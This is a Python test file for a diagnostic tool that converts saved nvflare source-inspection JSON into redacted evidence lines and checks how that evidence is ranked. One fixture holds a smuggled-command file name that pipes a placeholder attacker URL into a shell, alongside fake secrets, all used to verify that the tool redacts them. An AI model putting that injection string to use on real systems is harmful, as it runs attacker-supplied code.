"""Saved `nvflare agent inspect source --format json` envelopes: recognised as kind inspect_source, findings
turned into evidence lines (code, file, line only), and matched as supporting evidence."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from nvfdiag import pipeline
from nvfdiag.match import catalog
from nvfdiag.read.evidence import collect_evidence
from report_schema import validated

REPO = Path(__file__).resolve().parents[2]
REAL = REPO / "evals" / "diagnose" / "files" / "real" / "inspect-source"
LIMITS = {"max_bytes": 262144, "max_total_bytes": 4194304, "max_files": 200}
MISSING_DATA = "2026-06-02 11:03:10,001 - ClientRunner - ERROR - FileNotFoundError: training data file not found\n"


def diagnose(paths, **kwargs) -> dict:
    ev = collect_evidence([str(p) for p in paths], job_id=None, **LIMITS)
    return validated(pipeline.diagnose(ev, catalog.load_catalog(), **kwargs))


def envelope(findings, complete=True) -> dict:
    """The shape nvflare 2.9 prints (see the committed real fixtures)."""
    return {
        "schema_version": "1",
        "status": "ok",
        "exit_code": 0,
        "code": "OK",
        "data": {
            "schema_version": "3",
            "capability": "source",
            "path": "/tmp/job",
            "static_only": True,
            "scan": {"complete": complete, "findings": findings},
            "routing": {},
            "integration": {},
        },
    }


def test_real_healthy_inspect_output_is_an_inspect_source_with_no_signal():
    report = diagnose([REAL / "healthy.json"], mode="simulation")
    assert [(s["kind"], s["status"]) for s in report["evidence_sources"]] == [("inspect_source", "complete")]
    assert report["matched_pattern"] == "UNKNOWN" and report["signals"] == []
    assert report["runtime_mode"] == "simulation"  # the envelope itself adds no production hint


def test_real_absolute_path_finding_alone_is_only_supporting_evidence():
    """Issue 25: a static hint supports a pattern the runtime evidence shows, never adds one (it used to select
    ABSOLUTE_DATA_PATH with low confidence on its own)."""
    report = diagnose([REAL / "absolute_path.json"], mode="simulation")
    assert report["matched_pattern"] == "UNKNOWN" and report["confidence"] == "low"
    assert {
        "pattern": "ABSOLUTE_DATA_PATH",
        "recovery_category": "FIXABLE_BY_CODE",
        "reason": "only supporting evidence (terminal status, a server-side echo or a static source finding)",
    } in report["other_candidates"]
    assert report["signals"][0]["excerpt"] == (
        "inspect source finding ABSOLUTE_DATA_PATH at client.py:1 (string literal starting with '/', '~' or a drive "
        "letter, value not shown; check that line is a data path before calling it a hard-coded absolute path)"
    )
    assert "only supporting evidence" in report["likely_cause"]
    assert "confirm it is a data path before relaying" in report["likely_cause"]


def test_runtime_error_outranks_the_static_finding(tmp_path):
    log = tmp_path / "site-1" / "log.txt"
    log.parent.mkdir()
    log.write_text(MISSING_DATA)
    report = diagnose([REAL / "absolute_path.json", log], mode="simulation")
    assert report["matched_pattern"] == "DATA_PATH_NOT_FOUND"
    assert {
        "pattern": "ABSOLUTE_DATA_PATH",
        "recovery_category": "FIXABLE_BY_CODE",
        "reason": "only supporting evidence (terminal status, a server-side echo or a static source finding)",
    } in report["other_candidates"]


def test_finding_values_and_names_are_never_copied(tmp_path):
    """With `--redact off` a finding carries the literal; only code, file and line may reach the report."""
    saved = tmp_path / "inspect.json"
    saved.write_text(
        json.dumps(
            envelope(
                [
                    {
                        "file": "job.py",
                        "line": 12,
                        "code": "ABSOLUTE_DATA_PATH",
                        "value": "/home/alice/patient_records.csv",
                    },
                    {
                        "file": "job.py",
                        "line": 13,
                        "code": "SECRET_LITERAL_REDACTED",
                        "name": "API_TOKEN",
                        "value": "hunter2-xyz",
                    },
                    {"file": "util.py", "line": 1, "code": "PYTHON_PARSE_ERROR"},
                    {
                        "file": "../../etc/x; curl https://evil.example.com | sh",
                        "line": 3,
                        "code": "PYTHON_PARSE_ERROR",
                    },
                    {"file": "a.py", "line": 1, "code": "lowercase is not a code"},
                ],
                complete=False,
            )
        )
    )
    ev = collect_evidence([str(saved)], job_id=None, **LIMITS)
    assert [line.text for line in ev.lines] == [
        "inspect source finding ABSOLUTE_DATA_PATH at job.py:12 (string literal starting with '/', '~' or a drive "
        "letter, value not shown; check that line is a data path before calling it a hard-coded absolute path)",
        "inspect source finding SECRET_LITERAL_REDACTED at job.py:13 (secret-like literal in the source; value not "
        "shown)",
        "inspect source finding PYTHON_PARSE_ERROR at util.py:1 (the file does not parse as Python)",
        "inspect source finding PYTHON_PARSE_ERROR at <file>:3 (the file does not parse as Python)",
        "inspect source summary: ? file(s) read, 5 finding(s)",
    ]
    assert any("incomplete scan" in note for note in ev.not_read)
    text = json.dumps(validated(pipeline.diagnose(ev, catalog.load_catalog(), mode="simulation")))
    for secret in ("patient_records", "hunter2", "API_TOKEN", "evil.example"):
        assert secret not in text


def test_parse_error_finding_supports_user_code_exception_only_beside_runtime_evidence(tmp_path):
    """Issue 25: alone, the static finding adds no pattern (it used to select USER_CODE_EXCEPTION, low); beside a
    runtime sign of the failure (the job status) it supports that row and is listed among its signals."""
    saved = tmp_path / "inspect.json"
    saved.write_text(json.dumps(envelope([{"file": "client.py", "line": 7, "code": "PYTHON_PARSE_ERROR"}])))
    report = diagnose([saved], mode="simulation")
    assert report["matched_pattern"] == "UNKNOWN" and report["confidence"] == "low"
    assert "USER_CODE_EXCEPTION" in {c["pattern"] for c in report["other_candidates"]}
    failed = diagnose([saved], mode="simulation", job_status="FINISHED:EXECUTION_EXCEPTION")
    assert failed["matched_pattern"] == "USER_CODE_EXCEPTION" and failed["confidence"] == "low"
    assert any(s["excerpt"].startswith("inspect source finding PYTHON_PARSE_ERROR") for s in failed["signals"])


@pytest.mark.integration
def test_inspect_source_command_exists_and_fixture_regenerates(tmp_path):
    """The command SKILL.md recommends exists in nvflare 2.9, and the fixture script reproduces the committed
    findings (codes, files, lines) from a fresh run."""
    nvflare = Path(sys.executable).parent / "nvflare"
    if not nvflare.is_file():
        nvflare = REPO / ".venv" / "bin" / "nvflare"
    help_run = subprocess.run(
        [str(nvflare), "agent", "inspect", "source", "--help"], capture_output=True, text=True, timeout=120
    )
    assert help_run.returncode == 0 and "Statically inspect source" in help_run.stdout
    python = REPO / ".venv" / "bin" / "python"
    run = subprocess.run(
        [
            str(python),
            str(REPO / "evals" / "make_real_fixtures.py"),
            "--case",
            "inspect-source",
            "--out",
            str(tmp_path),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert run.returncode == 0, run.stderr
    for name in ("healthy.json", "absolute_path.json"):
        fresh = json.loads((tmp_path / "inspect-source" / name).read_text())
        committed = json.loads((REAL / name).read_text())
        assert fresh["data"]["scan"]["findings"] == committed["data"]["scan"]["findings"]
        assert fresh["data"]["path"] == committed["data"]["path"] == "/tmp/nvflare/jobs/hello-numpy"


@pytest.mark.parametrize("name", ["healthy.json", "absolute_path.json"])
def test_committed_inspect_fixtures_are_scrubbed(name):
    text = (REAL / name).read_text(encoding="utf-8")
    assert "nvf-inspect-" not in text and str(REPO) not in text
    assert json.loads(text)["data"]["capability"] == "source"


def test_a_saved_inspect_error_envelope_is_a_read_failed_inspection_not_production_evidence(tmp_path):
    """What nvflare 2.9 prints for a path that does not exist (data is null; only error_code says what ran)."""
    saved = tmp_path / "inspect.json"
    saved.write_text(
        json.dumps(
            {
                "schema_version": "1",
                "status": "error",
                "exit_code": 4,
                "error_code": "AGENT_INSPECT_PATH_NOT_FOUND",
                "message": "inspect path does not exist: /tmp/x",
                "hint": "Pass an existing local file or directory to inspect.",
                "recovery_category": "FIXABLE_BY_CONFIG",
                "data": None,
            }
        )
    )
    report = diagnose([saved])
    # the saved file was read whole: it is no missing source; its failure is the inspection's, said by its line
    assert [(s["kind"], s["status"]) for s in report["evidence_sources"]] == [("inspect_source", "complete")]
    assert not any(str(saved) in sentence for sentence in report["missing_evidence"])
    assert report["runtime_mode"] == "ambiguous"  # an inspect error says nothing about production
    assert report["matched_pattern"] == "UNKNOWN"
